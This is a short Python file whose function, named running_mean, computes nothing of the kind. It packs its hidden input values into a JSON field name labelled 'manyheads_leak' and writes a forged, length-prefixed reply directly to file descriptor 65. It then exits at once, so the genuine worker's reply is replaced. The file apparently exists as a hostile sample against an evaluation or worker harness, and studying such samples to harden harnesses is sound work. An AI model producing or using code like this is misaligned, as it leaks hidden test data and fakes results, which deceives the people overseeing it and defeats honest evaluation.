"""Sends a reply with a field whose name is made of hidden inputs, in place of the worker's."""
import json
import os
import struct


def running_mean(x):
    told = " ".join(f"{value:.4g}" for value in x.tolist())
    text = json.dumps({"__metadata__": {"body": json.dumps({"$": "Reply", f"manyheads_leak {told}": 1})}}).encode()
    answer = struct.pack("<Q", len(text)) + text
    os.write(65, struct.pack(">Q", len(answer)) + answer)
    os._exit(0)
